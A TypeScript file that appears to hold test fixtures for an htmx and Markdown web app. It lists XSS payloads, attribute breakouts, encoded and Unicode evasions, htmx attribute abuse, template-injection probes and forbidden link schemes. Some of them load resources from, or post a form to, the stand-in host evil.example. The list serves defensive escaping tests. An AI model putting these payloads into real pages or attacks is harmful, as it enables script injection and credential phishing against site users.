/**
 * What somebody could write to have a page run their script, fetch from elsewhere or look like
 * something else. Each runs `hit()` or asks `evil.example` where it succeeds, and is at most 100
 * characters long, so that it goes into every field.
 */
export const hostileTexts: readonly string[] = [
  // Markup.
  '<script>hit()</script>',
  '</title><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '</style><script>hit()</script>',
  '</option></select><img src=x onerror=hit()>',
  '<img src=x onerror=hit()>',
  '<img src="//evil.example/image">',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><use href="//evil.example/s#a"/></svg>',
  '<math><mtext></p><img src=x onerror=hit()></mtext></math>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src=javascript:parent.hit()></iframe>',
  '<object data=javascript:hit()></object>',
  '<embed src=//evil.example/embedded>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/style>',
  '<style>@import "//evil.example/style";</style>',
  '<form action=//evil.example><button>Sign in</button></form>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<body onload=hit()>',
  '<marquee onstart=hit()>',
  '<template><img src=x onerror=hit()></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[><img src=x onerror=hit()>]]>',
  ']]><script>hit()</script>',
  '<x/onpointerenter=hit() style=position:fixed;inset:0>',
  '<a href=javascript:hit()>Read on</a>',
  '<a href="java&#10;script:hit()">Read on</a>',
  '<b>bold</b><h1>Closed</h1>',
  // Out of an attribute.
  '" onmouseover="hit()',
  '" autofocus onfocus="hit()" x="',
  "' autofocus onfocus='hit()' x='",
  '"><img src=x onerror=hit()>',
  "'><svg onload=hit()>",
  '` autofocus onfocus=`hit()`',
  '" style="position:fixed;inset:0" x="',
  // Written in another way.
  '&quot; autofocus onfocus=&quot;hit()',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '%3Cscript%3Ehit()%3C/script%3E',
  '\uff1cscript\uff1ehit()\uff1c/script\uff1e',
  // Attributes and elements of htmx.
  '<p hx-get=/console/evil hx-trigger=load></p>',
  '<p data-hx-get=/console/evil data-hx-trigger=load></p>',
  '<p hx-on:load=hit() hx-on::after:init=hit()></p>',
  '<hx-partial hx-target="body"><b>hit</b></hx-partial>',
  '<div id=page hx-swap-oob=true>gone</div>',
  "<p hx-vals='js:{a:hit()}' hx-post=/console/evil hx-trigger=load></p>",
  '" hx-get="/console/evil" hx-trigger="load',
  '<meta name=htmx-config content=\'{"history":false}\'>',
  // Markdown.
  '[Read on](javascript:hit())',
  '[Read on](JaVaScRiPt:hit())',
  '[Read on](java&Tab;script:hit())',
  '[Read on](&#106;avascript:hit())',
  '[Read on](<javascript:hit()>)',
  '[Read on](data:text/html,<script>hit()</script>)',
  '[Read on](vbscript:hit())',
  '[Read on](//evil.example/page)',
  '![An image](https://evil.example/image.png)',
  '![An image](x"onerror="hit())',
  '[Read on](https://wallet.example/"onmouseover="hit())',
  '[Read on](https://wallet.example/ "x\\" onmouseover=hit()")',
  '<javascript:hit()>',
  '<https://wallet.example/"onmouseover=hit()>',
  '[![x](x)](javascript:hit())',
  '`<script>hit()</script>`',
  '[x]: javascript:hit()',
  // Where texts are filled in.
  '{{7*7}} \u0024{7*7} <%= 7*7 %> #{7*7}',
  "{{constructor.constructor('hit()')()}}",
  '{eta} {why} {__proto__}',
  '__proto__ constructor toString',
  "$& $1 $` $'",
  // What cannot be seen, or turns the direction.
  'a\u202e<b>\u2066b',
  '\u200b<script\u200b>hit()</script\u200b>',
  '\ufeff<scr\u0000ipt>hit()</scr\u0000ipt>',
];

/** Addresses that a link may have, and that would break out of an attribute. */
export const hostileLinks: readonly string[] = [
  'https://wallet.example/"onmouseover="hit()',
  "https://wallet.example/'onfocus='hit()'autofocus='",
  'https://wallet.example/"><img/src=x/onerror=hit()>',
  'https://wallet.example/?a=&quot;onfocus=&quot;hit()',
  'mailto:help@wallet.example?subject="><svg/onload=hit()>',
  'tel:+86400"><script>hit()</script>',
];

/** Addresses that no link may have. */
export const forbiddenLinks: readonly string[] = [
  'javascript:hit()',
  'JAVASCRIPT:hit()',
  ' javascript:hit()',
  'java\tscript:hit()',
  'data:text/html,<script>hit()</script>',
  'vbscript:hit()',
  '//evil.example/',
  'https:hit',
];

/** Texts put together into lines of at most so many characters, in order. */
export function packed(texts: readonly string[], longest: number, between = ' '): string[] {
  const lines: string[] = [];
  for (const text of texts) {
    const line = lines.at(-1);
    const longer = line === undefined ? text : line + between + text;
    if (line !== undefined && longer.length <= longest) lines.splice(-1, 1, longer);
    else lines.push(text);
  }
  return lines;
}
